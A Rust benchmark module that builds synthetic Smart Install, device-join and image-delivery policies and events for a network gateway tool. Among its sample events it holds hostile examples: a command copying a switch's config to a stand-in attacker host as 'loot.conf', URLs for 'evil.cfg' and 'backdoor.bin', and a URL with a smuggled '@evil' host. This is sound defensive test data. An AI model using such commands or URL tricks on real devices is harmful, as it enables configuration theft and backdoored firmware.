//! Synthetic policies and events for `ztpgate bench policy`: deterministic (xorshift with a fixed
//! seed), realistic in shape (directors, client networks, TFTP servers, rogue prefixes, IPv4 and
//! IPv6), and borrowing only `'static` strings so the decision loops allocate nothing for events.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

use chrono::{DateTime, NaiveDate, NaiveDateTime, TimeDelta, Utc};

use crate::policy::Mode;
use crate::policy::access::{
    AccessRule, Action, CopyPattern, KindSet, MessageKind, Selector, SmartInstallEvent,
    SmartInstallPolicy,
};
use crate::policy::delivery::{DeliveryEvent, ImageDeliveryPolicy, LegacyTftpException};
use crate::policy::join::{
    ClientEntry, ClientOverride, JoinContext, JoinDevice, JoinMode, JoinWindowPolicy, Mac,
    ManualWindow, Purpose,
};
use crate::policy::net::{AddrSet, HostSet, IpNet};
use crate::policy::schedule::{CronSchedule, Recurrence, Window};

// === synthetic Smart Install policy and events ===

/// A Smart Install policy with `rules` rules: three realistic ones (directors to clients,
/// client replies, no `execute` from anywhere), then synthetic rules over random IPv4 and IPv6
/// prefixes — a fifth of them deny rules from specific prefixes, a tenth audited — with random
/// kind sets.
pub fn synthetic_access_policy(rules: usize, rng: &mut XorShift) -> SmartInstallPolicy {
    let mut tftp_servers = HostSet::default();
    for entry in [
        "10.10.0.5",
        "10.10.0.6",
        "2001:db8:10::5",
        "tftp.example.net",
    ] {
        // Fixed, valid entries: a failure here would be a bug in this list.
        let _ = tftp_servers.push_entry(entry);
    }
    let director_kinds = [
        MessageKind::Probe,
        MessageKind::ConfigPush,
        MessageKind::CopyCommands,
        MessageKind::ImageUpgrade,
    ];
    let mut all = vec![
        rule(
            "directors-to-clients",
            Action::Allow,
            Selector::Directors,
            Selector::ClientNetworks,
            kinds(&director_kinds),
        ),
        rule(
            "client-replies",
            Action::Allow,
            Selector::ClientNetworks,
            Selector::Directors,
            kinds(&[MessageKind::ClientReply]),
        ),
        rule(
            "no-execute",
            Action::Deny,
            Selector::Any,
            Selector::Any,
            kinds(&[MessageKind::Execute, MessageKind::InitDiscovery]),
        ),
    ];
    for i in all.len()..rules {
        // Deny rules name specific prefixes (a rogue subnet), allow rules any selector.
        let (action, from) = if rng.below(5) == 0 {
            (Action::Deny, random_nets(rng))
        } else {
            (Action::Allow, random_selector(rng))
        };
        let kinds = KindSet((rng.next_u64() as u8) | 1);
        let mut r = rule(
            &format!("synthetic-{i}"),
            action,
            from,
            random_selector(rng),
            kinds,
        );
        r.mode = if rng.below(10) == 0 {
            Mode::Audit
        } else {
            Mode::Enforce
        };
        all.push(r);
    }
    all.truncate(rules);
    SmartInstallPolicy {
        directors: AddrSet(
            (0..4)
                .map(|i| host_v4(10, 10, 1, i + 1))
                .chain([host_v6(0x1, 1)])
                .collect(),
        ),
        client_networks: AddrSet(
            (0..16)
                .filter_map(|i| net_v4(u32::from_be_bytes([10, 20, i, 0]), 24))
                .chain(net_v6(0x2001_0db8_0020 << 80, 64))
                .collect(),
        ),
        tftp_servers,
        copy_patterns: [
            "copy system:running-config tftp://{tftp}/*",
            "copy nvram:startup-config tftp://{tftp}/backups/*",
            "copy flash:/config.text tftp://{tftp}/*",
        ]
        .into_iter()
        .filter_map(|p| CopyPattern::new(p).ok())
        .collect(),
        rules: all,
        ..SmartInstallPolicy::default()
    }
}

fn rule(name: &str, action: Action, from: Selector, to: Selector, kinds: KindSet) -> AccessRule {
    AccessRule {
        name: name.to_owned(),
        action,
        from: vec![from],
        to: vec![to],
        kinds,
        mode: Mode::Enforce,
    }
}

fn kinds(list: &[MessageKind]) -> KindSet {
    list.iter().fold(KindSet::default(), |set, k| set.with(*k))
}

fn random_selector(rng: &mut XorShift) -> Selector {
    match rng.below(20) {
        0 => Selector::Any,
        1 | 2 => Selector::Directors,
        3 | 4 => Selector::ClientNetworks,
        5 => Selector::TftpServers,
        _ => random_nets(rng),
    }
}

fn random_nets(rng: &mut XorShift) -> Selector {
    Selector::Nets(AddrSet(
        (0..1 + rng.below(2))
            .filter_map(|_| random_net(rng))
            .collect(),
    ))
}

fn random_net(rng: &mut XorShift) -> Option<IpNet> {
    if rng.below(10) < 6 {
        let prefix = 8 + rng.below(25) as u8;
        net_v4(0x0a00_0000 | (rng.next_u64() as u32 & 0x00ff_ffff), prefix)
    } else {
        let prefix = 32 + rng.below(97) as u8;
        net_v6(0x2001_0db8 << 96 | u128::from(rng.next_u64()) << 32, prefix)
    }
}

fn net_v4(addr: u32, prefix: u8) -> Option<IpNet> {
    let mask = u32::MAX.checked_shl(32 - u32::from(prefix)).unwrap_or(0);
    IpNet::new(IpAddr::V4(Ipv4Addr::from(addr & mask)), prefix).ok()
}

fn net_v6(addr: u128, prefix: u8) -> Option<IpNet> {
    let mask = u128::MAX.checked_shl(128 - u32::from(prefix)).unwrap_or(0);
    IpNet::new(IpAddr::V6(Ipv6Addr::from(addr & mask)), prefix).ok()
}

fn host_v4(a: u8, b: u8, c: u8, d: u8) -> IpNet {
    IpNet::host(IpAddr::V4(Ipv4Addr::new(a, b, c, d)))
}

fn host_v6(group: u128, host: u128) -> IpNet {
    IpNet::host(IpAddr::V6(Ipv6Addr::from(
        0x2001_0db8 << 96 | group << 80 | host,
    )))
}

const URLS: [&[&str]; 4] = [
    &[],
    &["tftp://10.10.0.5/configs/sw1.cfg"],
    &["tftp://203.0.113.5/evil.cfg"],
    &["tftp://tftp.example.net/images/imagelist.txt"],
];

const COMMANDS: [&[&str]; 4] = [
    &[],
    &["copy system:running-config tftp://10.10.0.5/backups/sw1.cfg"],
    &[
        "copy system:running-config flash:/config.text",
        "copy flash:/config.text tftp://203.0.113.5/loot.conf",
    ],
    &["copy nvram:startup-config tftp://10.10.0.6/backups/sw2.cfg"],
];

/// Pre-generated Smart Install events rotated over by the access loops.
const ACCESS_EVENTS: usize = 4096;

pub(super) fn access_events(
    policy: &SmartInstallPolicy,
    rng: &mut XorShift,
) -> Vec<SmartInstallEvent<'static>> {
    (0..ACCESS_EVENTS)
        .map(|_| {
            let src = pick_addr(policy, rng);
            let dst = pick_addr(policy, rng);
            let kind = MessageKind::ALL[rng.below(MessageKind::ALL.len() as u64) as usize];
            let (urls, commands) = match kind {
                MessageKind::ConfigPush | MessageKind::ImageUpgrade | MessageKind::Execute => {
                    (URLS[rng.below(URLS.len() as u64) as usize], COMMANDS[0])
                }
                MessageKind::CopyCommands => {
                    (URLS[0], COMMANDS[rng.below(COMMANDS.len() as u64) as usize])
                }
                _ => (URLS[0], COMMANDS[0]),
            };
            SmartInstallEvent {
                src,
                dst,
                kind,
                urls,
                commands,
            }
        })
        .collect()
}

/// A director, a client, an address inside a random rule prefix, or any address.
fn pick_addr(policy: &SmartInstallPolicy, rng: &mut XorShift) -> IpAddr {
    let inside = |net: &IpNet, rng: &mut XorShift| {
        let (lo, hi) = net.range();
        let span = hi - lo;
        let x = lo
            + if span == u128::MAX {
                u128::from(rng.next_u64())
            } else {
                u128::from(rng.next_u64()) % (span + 1)
            };
        match net.addr() {
            IpAddr::V4(_) => IpAddr::V4(Ipv4Addr::from(x as u32)),
            IpAddr::V6(_) => IpAddr::V6(Ipv6Addr::from(x)),
        }
    };
    let choose = |set: &AddrSet, rng: &mut XorShift| {
        let len = set.0.len() as u64;
        set.0.get(rng.below(len.max(1)) as usize).copied()
    };
    let net = match rng.below(10) {
        0..=2 => choose(&policy.directors, rng),
        3..=5 => choose(&policy.client_networks, rng),
        6..=7 => policy
            .rules
            .get(rng.below(policy.rules.len().max(1) as u64) as usize)
            .and_then(|r| match r.from.first() {
                Some(Selector::Nets(set)) => choose(set, rng),
                _ => None,
            }),
        _ => None,
    };
    match net {
        Some(net) => inside(&net, rng),
        None => IpAddr::V4(Ipv4Addr::from(rng.next_u64() as u32)),
    }
}

// === synthetic join policy and events ===

/// A join policy in manual mode with five windows (once, daily, weekly, monthly, cron) and 64
/// fixed clients.
pub fn synthetic_join_policy() -> JoinWindowPolicy {
    let at = |y, m, d, h| NaiveDate::from_ymd_opt(y, m, d).and_then(|d| d.and_hms_opt(h, 0, 0));
    let window =
        |name: &str, start: Option<NaiveDateTime>, minutes: u32, recurrence: Recurrence| {
            start.map(|start| Window {
                name: name.to_owned(),
                start,
                interval_minutes: Some(minutes),
                end: None,
                recurrence,
            })
        };
    // 30 1 * * 1-5: weekday nights at 01:30.
    let weekday_nights = CronSchedule {
        source: "30 1 * * 1-5".to_owned(),
        minutes: 1 << 30,
        hours: 1 << 1,
        days_of_month: 0xffff_fffe,
        months: 0x1ffe,
        days_of_week: 0b0011_1110,
        dom_restricted: false,
        dow_restricted: true,
    };
    let windows = [
        window("rollout", at(2026, 3, 2, 8), 8 * 60, Recurrence::Once),
        window("nightly", at(2026, 1, 1, 2), 120, Recurrence::Daily),
        window("saturday", at(2026, 1, 3, 6), 240, Recurrence::Weekly),
        window("month-end", at(2026, 1, 31, 20), 180, Recurrence::Monthly),
        window(
            "weekday-nights",
            at(2026, 1, 1, 0),
            90,
            Recurrence::Cron(weekday_nights),
        ),
    ];
    JoinWindowPolicy {
        mode: JoinMode::Manual,
        windows: windows.into_iter().flatten().collect(),
        clients: (0..64u8)
            .map(|i| ClientEntry {
                mac: Mac([0x00, 0x1b, 0x54, 0x00, 0x00, i]),
                state: if i % 2 == 0 {
                    ClientOverride::Allowed
                } else {
                    ClientOverride::Held
                },
            })
            .collect(),
        ..JoinWindowPolicy::default()
    }
}

pub(super) fn join_events(rng: &mut XorShift) -> Vec<(JoinDevice, JoinContext, DateTime<Utc>)> {
    let base = NaiveDate::from_ymd_opt(2026, 1, 1)
        .and_then(|d| d.and_hms_opt(0, 0, 0))
        .map(|t| t.and_utc())
        .unwrap_or_default();
    (0..1024)
        .map(|_| {
            let mac = Mac([
                0x00,
                0x1b,
                0x54,
                0x00,
                rng.below(2) as u8,
                rng.next_u64() as u8,
            ]);
            let device = JoinDevice {
                mac: Some(mac),
                known: rng.below(4) == 0,
                ..JoinDevice::default()
            };
            let ctx = JoinContext {
                manual: match rng.below(20) {
                    0 => Some(ManualWindow::Open),
                    1 => Some(ManualWindow::Closed),
                    _ => None,
                },
                client_override: None,
                on_hold_list: rng.below(10) == 0,
                purpose: if rng.below(2) == 0 {
                    Purpose::SmartInstallJoin
                } else {
                    Purpose::PnpOnboarding
                },
            };
            let now = base + TimeDelta::minutes(rng.below(366 * 1440) as i64);
            (device, ctx, now)
        })
        .collect()
}

// === synthetic delivery policy and events ===

/// A delivery policy: HTTPS only, checksums required, four allowed hosts, a rewrite target and
/// one legacy TFTP exception.
pub fn synthetic_delivery_policy() -> ImageDeliveryPolicy {
    let mut allowed_hosts = HostSet::default();
    for entry in [
        "images.example.net",
        "10.10.0.0/24",
        "2001:db8:10::/64",
        "cdn.example.net",
    ] {
        let _ = allowed_hosts.push_entry(entry);
    }
    let mut server = HostSet::default();
    let _ = server.push_entry("10.10.0.5");
    ImageDeliveryPolicy {
        allowed_hosts,
        rewrite_cleartext_to: Some("https://gw.example.net/cache".to_owned()),
        legacy_tftp: vec![LegacyTftpException {
            name: "legacy-branch".to_owned(),
            networks: AddrSet(net_v4(0x0a14_0000, 16).into_iter().collect()),
            server,
            mode: Mode::Enforce,
        }],
        ..ImageDeliveryPolicy::default()
    }
}

pub(super) fn delivery_events(rng: &mut XorShift) -> Vec<DeliveryEvent<'static>> {
    const URLS: [&str; 6] = [
        "https://images.example.net/ios/c9300-universalk9.17.12.04.SPA.bin",
        "https://10.10.0.7:8443/images/c2960x.tar",
        "http://images.example.net/ios/c9300.bin",
        "tftp://10.10.0.5/c2960-lanbasek9-tar.152-7.E9.tar",
        "https://evil.example.org/backdoor.bin",
        "tftp://10.10.0.5\\@evil/x",
    ];
    const CHECKSUM: &str =
        "sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
    (0..1024)
        .map(|_| DeliveryEvent {
            url: URLS[rng.below(URLS.len() as u64) as usize],
            checksum: match rng.below(5) {
                0 => None,
                1 => Some("md5:d41d8cd98f00b204e9800998ecf8427e"),
                _ => Some(CHECKSUM),
            },
            device: Some(IpAddr::V4(Ipv4Addr::new(10, 20 + rng.below(2) as u8, 1, 9))),
            legacy_smart_install: rng.below(2) == 0,
        })
        .collect()
}

// === deterministic random numbers ===

/// Marsaglia's xorshift64: deterministic, dependency-free, good enough for synthetic data.
#[derive(Clone, Debug)]
pub struct XorShift(u64);

impl XorShift {
    /// A generator from a non-zero seed (zero is replaced by a fixed constant).
    pub fn new(seed: u64) -> Self {
        Self(if seed == 0 { SEED } else { seed })
    }

    /// The next 64 random bits.
    pub fn next_u64(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        self.0 = x;
        x
    }

    /// A number in `0..n` (0 when `n` is 0).
    pub fn below(&mut self, n: u64) -> u64 {
        self.next_u64().checked_rem(n).unwrap_or(0)
    }
}

pub(crate) const SEED: u64 = 0x5eed_2026_0001_cafe;
